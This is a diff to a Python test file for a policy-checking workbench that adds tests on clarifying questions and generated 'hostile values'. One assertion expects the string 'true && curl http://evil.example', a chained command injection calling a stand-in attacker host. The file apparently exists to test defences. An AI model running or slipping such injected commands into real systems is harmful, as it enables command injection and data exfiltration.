@@ -14,6 +14,7 @@ from tests.examples import examples
 from workbench.app.session_language import language_of
 from workbench.clarify.written import Asked, Book
 from workbench.clarify.written.typed_values import typed_values
+from workbench.clarify.written.witnesses import hostile_values
 from workbench.dialect.lowered_policy import LoweredPolicy, lowered_policy
 from workbench.engines.compiled.compile import compile_policy
 from workbench.language.trees import text_of
@@ -150,3 +151,19 @@ def test_a_typed_form_that_says_the_opposite_is_never_asked_about() -> None:
     inverted = replace(found, typed=found.typed.replace("!=", "=="))
     assert asked_of(condition)
     assert not asked_of(condition, replace(terms, written=replace(terms.file, text_tests=(inverted,))))
+
+
+def test_a_sentence_is_asked_about_once_whatever_it_tests_and_never_about_signs() -> None:
+    signs = '"%" in call.file or "~" in call.file or "@" in call.page or call.file.endswith("/")'
+    assert not asked_of(signs)
+    several = f'{signs} or call.file.endswith(".py") or "evil.example" in call.page'
+    (asked,) = asked_of(several)
+    assert asked.about == ("forbid_send",)
+    typed = f'{TESTED['call.file.endswith(".py")'].strip("()")} or "evil.example" in call.page.domains'
+    assert meaning_the_thing(several) == f"{signs} or {typed}"
+
+
+def test_a_list_of_signs_of_a_command_is_asked_about_by_the_sign_that_it_lacks() -> None:
+    passing = [one.value for one in hostile_values("command", "contains", ";")]
+    assert "true && curl http://evil.example" in passing
+    assert not any("&&" in str(one.value) for one in hostile_values("command", "contains", "x"))
